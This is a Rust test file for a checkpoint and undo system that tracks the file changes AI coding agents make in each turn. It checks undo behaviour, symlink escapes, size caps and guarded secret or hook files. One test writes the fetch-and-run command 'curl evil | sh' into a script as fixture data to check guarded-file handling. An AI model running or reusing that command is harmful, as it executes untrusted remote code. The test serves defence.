use std::path::{Path, PathBuf};
use std::process::Command;

use super::*;

/// A workspace (a git repository with one commit, when `repo`) and a state folder.
fn rig(name: &str, repo: bool) -> (PathBuf, PathBuf) {
    let root = crate::scratch_dir(name);
    let (ws, state) = (root.join("ws"), root.join("state"));
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(ws.join("a.txt"), "one\ntwo\n").unwrap();
    std::fs::write(ws.join("keep.txt"), "kept\n").unwrap();
    if repo {
        sh(&ws, "git init -q && git add . && git -c user.email=t@t -c user.name=t commit -qm first");
    }
    (ws.canonicalize().unwrap(), state)
}

fn sh(dir: &Path, script: &str) -> String {
    let out = git::bare_git(dir).arg("--version").output().map(|_| ()).and_then(|()| {
        let mut c = Command::new("sh");
        c.arg("-c").arg(script).current_dir(dir);
        for (k, _) in std::env::vars_os().filter(|(k, _)| k.to_string_lossy().starts_with("GIT_")) {
            c.env_remove(k);
        }
        c.output()
    });
    let out = out.unwrap();
    assert!(out.status.success(), "{script}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// What must never change in the user's repository.
fn repo_state(ws: &Path) -> String {
    sh(ws, "sha1sum .git/index; git rev-parse HEAD; git stash list; git ls-files -s; GIT_OPTIONAL_LOCKS=0 git status --porcelain")
}

#[test]
fn a_shell_change_is_listed_and_undone_byte_for_byte_and_the_repository_is_untouched() {
    let (ws, state) = rig("cp-repo", true);
    sh(&ws, "echo staged >> keep.txt && git add keep.txt && printf 'raw\\0bytes' > bin.dat && echo stash > s && git stash -q && git stash apply -q");
    let before = repo_state(&ws);
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", Some("do it".into()), &[]).unwrap().0;
    sh(&ws, "sed -i 's/two/TWO/' a.txt && echo new > created.txt && rm bin.dat");
    let ended = cp.end(t.n, &[]).unwrap();
    assert_eq!(ended.changed, ["a.txt", "bin.dat", "created.txt"]);
    assert_eq!(ended.unreviewed, ended.changed);
    let (_, changes) = cp.changes(None).unwrap();
    let a = changes.iter().find(|c| c.path == "a.txt").unwrap();
    assert_eq!((a.status, a.lines, a.turns.clone(), a.unreviewed), ('M', Some((1, 1, 2)), vec![t.n], true));
    assert_eq!(cp.content(t.n, &"a.txt".into()).unwrap().unwrap(), b"one\ntwo\n");
    assert_eq!(cp.content(t.n, &"created.txt".into()).unwrap(), None);
    let plan = cp.plan_undo(None).unwrap();
    let paths: Vec<Name> = plan.files.iter().map(|f| f.path.clone()).collect();
    let report = cp.undo(plan.turn.n, &paths).unwrap();
    assert!(report.failed.is_empty(), "{report:?}");
    assert_eq!(std::fs::read(ws.join("a.txt")).unwrap(), b"one\ntwo\n");
    assert_eq!(std::fs::read(ws.join("bin.dat")).unwrap(), b"raw\0bytes");
    assert!(!ws.join("created.txt").exists());
    assert_eq!(repo_state(&ws), before);
    assert!(cp.turns().unwrap()[0].undone);
}

#[test]
fn a_folder_that_is_not_a_repository_works_and_respects_its_gitignore() {
    let (ws, state) = rig("cp-folder", false);
    std::fs::write(ws.join(".gitignore"), "build/\n").unwrap();
    std::fs::create_dir_all(ws.join("build")).unwrap();
    std::fs::write(ws.join("build/out"), "x").unwrap();
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    std::fs::write(ws.join("build/out"), "y").unwrap();
    std::fs::remove_file(ws.join("keep.txt")).unwrap();
    let (_, changes) = cp.changes(Some(t.n)).unwrap();
    assert_eq!(changes.iter().map(|c| (c.path.lossy(), c.status)).collect::<Vec<_>>(), [("keep.txt".to_string(), 'D')]);
    // Still open (no end): the turn is taken as the changer.
    assert_eq!(changes[0].turns, [t.n]);
    let plan = cp.plan_undo(None).unwrap();
    assert_eq!(plan.files[0].action, "restore");
    cp.undo(t.n, &["keep.txt".into()]).unwrap();
    assert_eq!(std::fs::read_to_string(ws.join("keep.txt")).unwrap(), "kept\n");
}

#[test]
fn a_change_after_the_turn_is_flagged_and_a_deleted_then_recreated_file_is_one_change() {
    let (ws, state) = rig("cp-since", false);
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    std::fs::remove_file(ws.join("a.txt")).unwrap();
    std::fs::write(ws.join("a.txt"), "agent\n").unwrap();
    cp.end(t.n, &[Reviewed { path: "a.txt".into(), blob: None, left: None }]).unwrap();
    std::fs::write(ws.join("a.txt"), "user\n").unwrap();
    let (_, changes) = cp.changes(None).unwrap();
    assert_eq!((changes.len(), changes[0].status, changes[0].unreviewed), (1, 'M', false));
    let plan = cp.plan_undo(None).unwrap();
    assert!(plan.files[0].changed_since);
    // A later turn opens (the user's write since is theirs: no changes between turns).
    let users = Reviewed { path: "a.txt".into(), blob: Some(crate::support::blob::blob_id(b"user\n")), left: None };
    let t2 = cp.begin("other", None, &[users]).unwrap().0;
    assert_eq!(t2.n, t.n + 1);
}

#[test]
fn a_write_between_turns_is_a_turn_of_its_own_and_an_undos_writes_are_not() {
    let (ws, state) = rig("cp-between", false);
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("chat", None, &[]).unwrap().0;
    std::fs::write(ws.join("a.txt"), "agent\n").unwrap();
    cp.end(t.n, &[]).unwrap();
    // Undone after its end: what the undo wrote is no one's change.
    cp.undo(t.n, &[Name::from("a.txt")]).unwrap();
    let (t2, between) = cp.begin("chat", None, &[]).unwrap();
    assert_eq!((t2.n, between), (t.n + 1, None));
    cp.end(t2.n, &[]).unwrap();
    // Written after its end by no one the user saw: a turn of its own, before the next.
    std::fs::write(ws.join("a.txt"), "background\n").unwrap();
    let (t3, between) = cp.begin("chat", None, &[]).unwrap();
    let between = between.expect("the write between turns");
    assert_eq!((between.n, between.between, t3.n), (t2.n + 1, true, t2.n + 2));
    assert_eq!((between.changed, between.unreviewed), (vec![Name::from("a.txt")], vec![Name::from("a.txt")]));
    // The turn just begun changed nothing: the default undo passes over it and over the
    // between-turns turn (the user's own change), to the agent's turn before; named, it is picked.
    let now = cp.snapshot(&cp.hold().unwrap()).unwrap().tree;
    assert_eq!(cp.pick(None, &now).unwrap().n, t2.n);
    assert_eq!(cp.pick(Some(between.n), &now).unwrap().n, between.n);
}

#[test]
fn a_file_the_user_saw_whose_end_holds_other_text_is_not_reviewed_and_says_so() {
    let (ws, state) = rig("cp-other-text", false);
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    for (name, text) in [("a.txt", "accepted\n"), ("b.txt", "evil\n"), ("c.txt", "mine\n")] {
        std::fs::write(ws.join(name), text).unwrap();
    }
    let saw = |p: &str, text: Option<&[u8]>| Reviewed { path: p.into(), blob: text.map(crate::support::blob::blob_id), left: None };
    // a.txt as accepted; b.txt accepted as "accepted\n" but the agent wrote other text; c.txt
    // the user's own write (its text unknown: trusted).
    // d.txt: a review that could not read its left side showed no start.
    std::fs::write(ws.join("d.txt"), "shown\n").unwrap();
    let unread = Reviewed { left: Some(crate::support::blob::UNREAD.into()), ..saw("d.txt", Some(b"shown\n")) };
    let reviewed = [saw("a.txt", Some(b"accepted\n")), saw("b.txt", Some(b"accepted\n")), saw("c.txt", None), unread];
    let ended = cp.end(t.n, &reviewed).unwrap();
    assert_eq!(ended.unreviewed, [Name::from("b.txt"), Name::from("d.txt")]);
    assert_eq!(ended.other_text, [Name::from("b.txt")]);
    let (_, changes) = cp.changes(Some(t.n)).unwrap();
    let b_txt = Name::from("b.txt");
    let b = changes.iter().find(|c| c.path == b_txt).unwrap();
    assert!(b.unreviewed && b.other_text, "{b:?}");
    assert!(changes.iter().filter(|c| c.path != b_txt && c.path != Name::from("d.txt")).all(|c| !c.unreviewed && !c.other_text));
    // A terminal agent's turn, closed by the next one's start, is settled with what it showed.
    let t2 = cp.begin("terminal", None, &[]).unwrap().0;
    std::fs::write(ws.join("a.txt"), "reviewed\n").unwrap();
    let (_, closed) = cp.begin("terminal", None, &[saw("a.txt", Some(b"reviewed\n"))]).unwrap();
    let closed = closed.expect("the open turn closed");
    assert_eq!((closed.n, closed.changed.len(), closed.unreviewed.len()), (t2.n, 1, 0));
}

#[test]
fn limits_skip_a_checkpoint_whole_and_leave_out_a_huge_file() {
    let (ws, state) = rig("cp-limits", false);
    std::fs::write(ws.join("big.bin"), vec![7u8; 4096]).unwrap();
    let small = Limits { files: 100, file_bytes: 1024, new_bytes: 1 << 20, ..Limits::default() };
    let t = Checkpoints::open(&ws, &state, small).unwrap().begin("pi", None, &[]).unwrap().0;
    assert_eq!(t.skipped, ["big.bin"]);
    let few = Limits { files: 1, ..small };
    let e = Checkpoints::open(&ws, &state.join("2"), few).unwrap().begin("pi", None, &[]).unwrap_err();
    assert!(e.contains("more than 1 files"), "{e}");
    let tight = Limits { new_bytes: 4, ..small };
    let e = Checkpoints::open(&ws, &state.join("3"), tight).unwrap().begin("pi", None, &[]).unwrap_err();
    assert!(e.contains("over the cap"), "{e}");
}

#[test]
fn checkpoints_survive_reopening_and_home_is_refused() {
    let (ws, state) = rig("cp-reopen", true);
    let n = Checkpoints::open(&ws, &state, Limits::default()).unwrap().begin("pi", None, &[]).unwrap().0.n;
    std::fs::write(ws.join("a.txt"), "changed\n").unwrap();
    let again = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    assert_eq!(again.changes(None).unwrap().1[0].turns, [n]);
    if let Some(home) = std::env::var_os("HOME") {
        assert!(Checkpoints::open(Path::new(&home), &state, Limits::default()).is_err());
    }
}

#[test]
fn an_undo_never_writes_through_a_folder_that_now_leads_outside() {
    let (ws, state) = rig("cp-escape", false);
    std::fs::create_dir_all(ws.join("d")).unwrap();
    std::fs::write(ws.join("d/f"), "in\n").unwrap();
    let outside = ws.parent().unwrap().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    std::fs::remove_dir_all(ws.join("d")).unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("d")).unwrap();
    let report = cp.undo(t.n, &["d/f".into(), "d".into()]).unwrap();
    assert!(!outside.join("f").exists(), "{report:?}");
}

#[test]
fn a_repository_inside_the_workspace_is_kept_as_its_commit_and_does_not_break_a_checkpoint() {
    let (ws, state) = rig("cp-nested", true);
    std::fs::create_dir_all(ws.join("sub")).unwrap();
    sh(&ws.join("sub"), "git init -q && echo in > f && git add f && git -c user.email=t@t -c user.name=t commit -qm s");
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    std::fs::write(ws.join("sub/f"), "changed inside\n").unwrap();
    std::fs::write(ws.join("a.txt"), "x\n").unwrap();
    let ended = cp.end(t.n, &[]).unwrap();
    // The nested repository's files are its own: only a.txt is a change.
    assert_eq!(ended.changed, ["a.txt"]);
}

/// Every file under `dir`, with its bytes (symlinks as their target).
fn tree_of(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        let m = std::fs::symlink_metadata(&p).unwrap();
        if m.is_dir() {
            out.push((p.clone(), b"<dir>".to_vec()));
            out.extend(tree_of(&p));
        } else if m.file_type().is_symlink() {
            out.push((p.clone(), std::fs::read_link(&p).unwrap().into_os_string().into_encoded_bytes()));
        } else {
            out.push((p.clone(), std::fs::read(&p).unwrap()));
        }
    }
    out.sort();
    out
}

#[test]
fn an_undo_refuses_a_folder_made_a_symlink_by_name_and_creates_nothing_outside() {
    let (ws, state) = rig("cp-symlink-walk", false);
    std::fs::create_dir_all(ws.join("sub/x")).unwrap();
    std::fs::write(ws.join("sub/x/y.txt"), "in\n").unwrap();
    let outside = ws.parent().unwrap().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("theirs.txt"), "theirs\n").unwrap();
    let before = tree_of(&outside);
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    // The agent's turn: sub/ becomes a symlink to a folder outside, sub/x/y.txt is gone.
    std::fs::remove_dir_all(ws.join("sub")).unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("sub")).unwrap();
    cp.end(t.n, &[]).unwrap();
    let plan = cp.plan_undo(None).unwrap();
    let paths: Vec<Name> = plan.files.iter().map(|f| f.path.clone()).collect();
    assert_eq!(paths, ["sub", "sub/x/y.txt"]);
    // The file alone (the symlink left, as when it changed since and its name was not typed).
    let report = cp.undo(t.n, &["sub/x/y.txt".into()]).unwrap();
    assert_eq!(tree_of(&outside), before, "something was made outside: {report:?}");
    let refused: Vec<(String, String)> = report.failed.iter().map(|(p, e)| (p.lossy(), e.clone())).collect();
    assert_eq!(refused, [("sub/x/y.txt".to_string(), "sub is a symbolic link now: not followed".to_string())], "{report:?}");
    // Both: the symlink the turn made is deleted (not followed), then the file is put back.
    let report = cp.undo(t.n, &paths).unwrap();
    assert_eq!((report.deleted.clone(), report.restored.clone()), (vec![Name::from("sub")], vec![Name::from("sub/x/y.txt")]), "{report:?}");
    assert_eq!(std::fs::read(ws.join("sub/x/y.txt")).unwrap(), b"in\n");
    assert_eq!(tree_of(&outside), before);
}

#[test]
fn a_name_that_is_not_utf8_is_listed_and_put_back_under_its_exact_bytes() {
    use std::os::unix::ffi::OsStrExt;
    let (ws, state) = rig("cp-bytes", false);
    let name = b"caf\xe9 \xff.txt";
    let path = ws.join(std::ffi::OsStr::from_bytes(name));
    std::fs::write(&path, "before\n").unwrap();
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    std::fs::write(&path, "after\n").unwrap();
    let ended = cp.end(t.n, &[]).unwrap();
    assert_eq!(ended.changed, [Name(name.to_vec())]);
    // Read back from turns.json by a fresh instance: the same bytes.
    let again = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    assert_eq!(again.turns().unwrap()[0].unreviewed, [Name(name.to_vec())]);
    assert_eq!(again.content(t.n, &Name(name.to_vec())).unwrap().unwrap(), b"before\n");
    let plan = again.plan_undo(None).unwrap();
    assert_eq!(plan.files[0].path, Name(name.to_vec()));
    let report = again.undo(t.n, &[Name(name.to_vec())]).unwrap();
    assert_eq!((report.restored, report.failed), (vec![Name(name.to_vec())], vec![]));
    assert_eq!(std::fs::read(&path).unwrap(), b"before\n");
    let names: Vec<Vec<u8>> = std::fs::read_dir(&ws).unwrap().map(|e| e.unwrap().file_name().as_bytes().to_vec()).collect();
    let lossy = String::from_utf8_lossy(name).into_owned().into_bytes();
    assert!(!names.contains(&lossy), "a U+FFFD name was written: {names:?}");
    // A name Unix cannot hold is refused by name, not written under another.
    let bad = Name(b"a\0b".to_vec());
    assert!(again.undo(t.n, &[bad]).unwrap().restored.is_empty());
}

/// The id git gives `text` as a blob.
fn blob_id(text: &str) -> String {
    sh(Path::new("/"), &format!("printf '{text}' | git hash-object --stdin")).trim().to_string()
}

/// The user's repository forgets every object no ref reaches: as `git gc` does two weeks on.
fn users_gc(ws: &Path) {
    sh(ws, "git reflog expire --expire=now --all && git gc -q --prune=now");
}

#[test]
fn a_checkpoint_keeps_its_own_copy_of_what_the_users_gc_prunes() {
    let (ws, state) = rig("cp-gc", true);
    // Staged, never committed: the user's repository holds its blob until a gc.
    sh(&ws, "printf 'staged\\n' > a.txt && git add a.txt");
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    sh(&ws, "printf 'agent\\n' > a.txt");
    cp.end(t.n, &[]).unwrap();
    sh(&ws, "git reset -q");
    users_gc(&ws);
    let staged = blob_id("staged\\n");
    assert!(Command::new("git").args(["cat-file", "-e", &staged]).current_dir(&ws).status().is_ok_and(|s| !s.success()), "not pruned");
    assert_eq!(cp.content(t.n, &"a.txt".into()).unwrap().unwrap(), b"staged\n");
    let (_, changes) = cp.changes(Some(t.n)).unwrap();
    assert_eq!((changes[0].lines, changes[0].lost), (Some((1, 1, 1)), false), "{changes:?}");
    cp.undo(t.n, &["a.txt".into()]).unwrap();
    assert_eq!(std::fs::read(ws.join("a.txt")).unwrap(), b"staged\n");
    assert!(!state.join("checkpoints").read_dir().unwrap().any(|d| d.unwrap().path().join("git/objects/info/alternates").exists()));
}

#[test]
fn a_shadow_that_borrowed_copies_what_is_left_says_what_it_lost_and_goes_on() {
    let (ws, state) = rig("cp-borrowed", true);
    sh(&ws, "printf 'staged\\n' > a.txt && git add a.txt");
    // A shadow as an earlier version left it: borrowing the user's objects (a loose object is
    // not written when the user's repository has it), its turn 1 begun.
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let objects = ws.join(".git/objects").display().to_string();
    std::fs::write(cp.git.git_dir.join("objects/info/alternates"), format!("{objects}\n")).unwrap();
    cp.git.run(&["-c", "core.bigFileThreshold=512m", "update-index", "--add", "a.txt", "keep.txt"], None).unwrap();
    let start = String::from_utf8(cp.git.run(&["write-tree"], None).unwrap()).unwrap();
    let turn = format!(r#"[{{"n":1,"agent":"pi","started_ms":1,"start":"{}"}}]"#, start.trim());
    std::fs::write(cp.dir.join("turns.json"), turn).unwrap();
    drop(cp);
    sh(&ws, "printf 'agent\\n' > a.txt && printf 'agent\\n' > keep.txt");
    // The staged blob is pruned by the user's gc before the shadow is opened again.
    sh(&ws, "git reset -q");
    users_gc(&ws);
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    assert!(!cp.git.git_dir.join("objects/info/alternates").exists());
    // What was still there (keep.txt, committed) is the shadow's own now.
    std::fs::rename(ws.join(".git/objects"), ws.join("objects-away")).unwrap();
    assert_eq!(cp.content(1, &"keep.txt".into()).unwrap().unwrap(), b"kept\n");
    let e = cp.content(1, &"a.txt".into()).unwrap_err();
    assert!(e.starts_with("the checkpoint of turn 1 has lost a.txt's text: git object "), "{e}");
    let (_, changes) = cp.changes(Some(1)).unwrap();
    let a = changes.iter().find(|c| c.path == "a.txt").unwrap();
    assert!(a.lost && a.lines.is_none(), "{a:?}");
    let e = cp.undo(1, &["a.txt".into()]).unwrap_err();
    assert!(e.contains("has lost a.txt's text"), "{e}");
    // Later checkpoints work (the index that named the lost blob is rebuilt).
    let next = cp.begin("pi", None, &[]).unwrap().0;
    sh(&ws, "printf 'again\\n' > a.txt");
    assert_eq!(cp.end(next.n, &[]).unwrap().changed, ["a.txt"]);
    assert_eq!(cp.content(next.n, &"a.txt".into()).unwrap().unwrap(), b"agent\n");
    std::fs::rename(ws.join("objects-away"), ws.join(".git/objects")).unwrap();
}

#[test]
fn a_tracked_file_grown_past_the_cap_is_left_out_and_an_undo_never_deletes_one_it_did_not_record() {
    let (ws, state) = rig("cp-cap-tracked", false);
    std::fs::write(ws.join("grows.bin"), vec![1u8; 100]).unwrap();
    std::fs::write(ws.join("shrinks.bin"), vec![2u8; 4096]).unwrap();
    let limits = Limits { file_bytes: 1024, ..Limits::default() };
    let cp = Checkpoints::open(&ws, &state, limits).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    assert_eq!(t.skipped, ["shrinks.bin"]);
    std::fs::write(ws.join("grows.bin"), vec![3u8; 4096]).unwrap();
    std::fs::write(ws.join("shrinks.bin"), vec![4u8; 10]).unwrap();
    let ended = cp.end(t.n, &[]).unwrap();
    let end = cp.turns().unwrap()[0].end.clone().unwrap();
    let listed = cp.git.run(&["ls-tree", "-r", "--name-only", &end], None).unwrap();
    assert_eq!(String::from_utf8_lossy(&listed), "a.txt\nkeep.txt\nshrinks.bin\n", "a file over the cap was stored");
    assert_eq!(cp.turns().unwrap()[0].end_skipped, ["grows.bin"]);
    assert_eq!(ended.changed, ["grows.bin", "shrinks.bin"]);
    let (_, changes) = cp.changes(Some(t.n)).unwrap();
    assert!(changes.iter().any(|c| c.path == "grows.bin" && c.over_cap), "{changes:?}");
    // shrinks.bin was not recorded at the start: an undo leaves it (deleting it would lose it).
    let plan = cp.plan_undo(None).unwrap();
    assert_eq!((plan.files.len(), plan.files[0].path.lossy(), plan.kept.clone()), (1, "grows.bin".to_string(), vec![Name::from("shrinks.bin")]));
}

#[test]
fn only_the_last_turns_are_kept_and_what_only_older_ones_held_is_pruned() {
    let (ws, state) = rig("cp-prune", false);
    let cp = Checkpoints::open(&ws, &state, Limits { turns: 3, ..Limits::default() }).unwrap();
    let version = |k: usize| format!("version {k} {}\n", "x".repeat(k));
    for k in 0..20 {
        std::fs::write(ws.join("a.txt"), version(k)).unwrap();
        cp.begin("pi", None, &[]).unwrap();
    }
    let turns = cp.turns().unwrap();
    assert_eq!(turns.iter().map(|t| t.n).collect::<Vec<_>>(), [18, 19, 20]);
    let has = |k: usize| cp.git.run(&["cat-file", "-e", &blob_id(&version(k))], None).is_ok();
    assert!(!has(0) && !has(5), "an old turn's version is still stored");
    assert!(has(17) && has(19));
    assert_eq!(cp.content(18, &"a.txt".into()).unwrap().unwrap(), version(17).as_bytes());
    let e = cp.content(2, &"a.txt".into()).unwrap_err();
    assert_eq!(e, "turn 2 is no longer kept: only the last 3 turns are (checkpoints.keep_turns)");
}

#[test]
fn two_checkpoints_of_one_folder_racing_turns_lose_none() {
    let (ws, state) = rig("cp-race", false);
    let threads: Vec<_> = (0..2)
        .map(|k| {
            let (ws, state) = (ws.clone(), state.clone());
            std::thread::spawn(move || {
                let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
                for i in 0..12 {
                    let t = cp.begin(&format!("agent{k}"), None, &[]).unwrap().0;
                    std::fs::write(ws.join(format!("f{k}")), format!("{i}\n")).unwrap();
                    cp.end(t.n, &[]).unwrap();
                }
            })
        })
        .collect();
    for t in threads {
        t.join().unwrap();
    }
    let turns = Checkpoints::open(&ws, &state, Limits::default()).unwrap().turns().unwrap();
    let mut ns: Vec<u64> = turns.iter().map(|t| t.n).collect();
    ns.dedup();
    assert_eq!(ns, (1..=turns.len() as u64).collect::<Vec<_>>());
    // Every agent's turn; a write of one racing the other's turn may be found between turns.
    assert_eq!(turns.iter().filter(|t| !t.between).count(), 24);
    assert!(turns.iter().all(|t| t.end.is_some()));
}

#[test]
fn a_log_that_cannot_be_read_is_never_replaced() {
    let (ws, state) = rig("cp-log", false);
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let log = cp.dir.join("turns.json");
    std::fs::write(&log, b"{ not json").unwrap();
    let e = cp.begin("pi", None, &[]).unwrap_err();
    assert!(e.contains(&log.display().to_string()) && e.contains("kept as"), "{e}");
    let aside: Vec<PathBuf> = std::fs::read_dir(&cp.dir).unwrap().map(|e| e.unwrap().path()).filter(|p| p.to_string_lossy().contains("unreadable")).collect();
    assert_eq!(std::fs::read(&aside[0]).unwrap(), b"{ not json");
    assert_eq!(cp.begin("pi", None, &[]).unwrap().0.n, 1);
    // One that cannot be read at all stays as it is, and the turn fails saying so.
    std::fs::remove_file(&log).unwrap();
    std::fs::create_dir(&log).unwrap();
    let e = cp.begin("pi", None, &[]).unwrap_err();
    assert!(e.starts_with("could not read this folder's turns"), "{e}");
    assert!(log.is_dir());
}

#[test]
fn files_that_run_code_or_hold_secrets_are_listed_and_never_undone() {
    let (ws, state) = rig("cp-guarded", true);
    std::fs::write(ws.join(".gitignore"), ".env\n").unwrap();
    std::fs::write(ws.join(".env"), "TOKEN=one\n").unwrap();
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    sh(&ws, "mkdir -p app && echo S=1 > app/.env.local && git add app/.env.local && echo x >> a.txt && echo TOKEN=two > .env \
        && printf '#!/bin/sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor ./watch");
    let ended = cp.end(t.n, &[]).unwrap();
    assert_eq!(ended.guarded, [".env", ".git/config", ".git/hooks/pre-commit"]);
    assert_eq!(ended.changed, ["a.txt", "app/.env.local"]);
    let (_, changes) = cp.changes(Some(t.n)).unwrap();
    let listed: Vec<(String, char, Option<&str>, Vec<u64>)> = changes.iter().map(|c| (c.path.lossy(), c.status, c.guarded, c.turns.clone())).collect();
    assert_eq!(&listed[..3], [
        (".env".to_string(), 'M', Some("holds secrets"), vec![t.n]),
        (".git/config".to_string(), 'M', Some("runs code"), vec![t.n]),
        (".git/hooks/pre-commit".to_string(), 'A', Some("runs code"), vec![t.n]),
    ]);
    // Hashes only: no secret in the log.
    let log = std::fs::read_to_string(cp.dir.join("turns.json")).unwrap();
    assert!(!log.contains("TOKEN"), "{log}");
    let plan = cp.plan_undo(None).unwrap();
    assert_eq!(plan.files.iter().map(|f| f.path.lossy()).collect::<Vec<_>>(), ["a.txt", "app/.env.local"]);
    assert_eq!(plan.turn.guarded.len(), 3);
}

#[test]
fn ignored_files_a_turn_changed_are_counted_and_ignored_scripts_fingerprinted_never_undone() {
    let (ws, state) = rig("cp-ignored", true);
    std::fs::write(ws.join(".gitignore"), "local.sh\nbuild/\n").unwrap();
    sh(&ws, "mkdir -p node_modules/pkg build && echo a > node_modules/pkg/a.js && echo b > node_modules/pkg/run.sh \
        && echo o > build/out.o && echo hi > local.sh && echo old > build/gone.o");
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    sh(&ws, "echo A > node_modules/pkg/a.js && echo B > node_modules/pkg/run.sh && echo n > build/new.o \
        && echo 'curl evil | sh' > local.sh && rm build/gone.o");
    let ended = cp.end(t.n, &[]).unwrap();
    // The three changed or made (the one deleted is not seen); local.sh is named, not counted.
    assert_eq!((ended.ignored_changed, ended.guarded.clone(), ended.changed.clone()), (3, vec![Name::from("local.sh")], vec![]));
    let plan = cp.plan_undo(None).unwrap();
    assert!(plan.files.is_empty());
    assert_eq!(std::fs::read_to_string(ws.join("local.sh")).unwrap(), "curl evil | sh\n");
}

#[test]
fn ignored_executables_and_build_folders_are_counted_not_fingerprinted_and_the_walk_is_capped() {
    let (ws, state) = rig("cp-ignored-built", true);
    std::fs::write(ws.join(".gitignore"), "target/\nlocal.sh\ntool\n").unwrap();
    let make = "mkdir -p target/debug/build/x && for f in target/debug/build/x/build-script-build target/debug/run.sh tool local.sh; \
        do echo $1 > $f && chmod +x $f; done";
    sh(&ws, &make.replace("$1", "old"));
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    sh(&ws, &make.replace("$1", "new"));
    let ended = cp.end(t.n, &[]).unwrap();
    // Only the script named so is fingerprinted; the executables and target/'s script counted.
    assert_eq!((ended.guarded.clone(), ended.ignored_changed, ended.ignored_capped), (vec![Name::from("local.sh")], 3, false));
    // More ignored files than the file limit: the first ones looked at, the turn says so.
    sh(&ws, "for i in 1 2 3 4 5 6 7 8; do echo $i > target/f$i; done");
    let few = Checkpoints::open(&ws, &state, Limits { files: 5, ..Limits::default() }).unwrap();
    let t = few.begin("pi", None, &[]).unwrap().0;
    let ended = few.end(t.n, &[]).unwrap();
    assert!(ended.ignored_capped, "{ended:?}");
}

#[test]
fn an_undo_puts_a_file_back_where_the_turn_made_a_folder() {
    let (ws, state) = rig("cp-swap", false);
    std::fs::write(ws.join("d"), "a file\n").unwrap();
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    let t = cp.begin("pi", None, &[]).unwrap().0;
    std::fs::remove_file(ws.join("d")).unwrap();
    std::fs::create_dir(ws.join("d")).unwrap();
    std::fs::write(ws.join("d/f"), "inside\n").unwrap();
    cp.end(t.n, &[]).unwrap();
    let plan = cp.plan_undo(None).unwrap();
    let report = cp.undo(t.n, &plan.files.iter().map(|f| f.path.clone()).collect::<Vec<_>>()).unwrap();
    assert!(report.failed.is_empty(), "{report:?}");
    assert_eq!(std::fs::read(ws.join("d")).unwrap(), b"a file\n");
}

#[test]
fn the_checkpoints_are_readable_by_the_user_alone() {
    use std::os::unix::fs::PermissionsExt;
    let (ws, state) = rig("cp-private", false);
    std::fs::create_dir_all(state.join("checkpoints")).unwrap();
    std::fs::set_permissions(state.join("checkpoints"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
    for dir in [state.join("checkpoints"), cp.dir.clone()] {
        assert_eq!(std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777, 0o700, "{}", dir.display());
    }
}
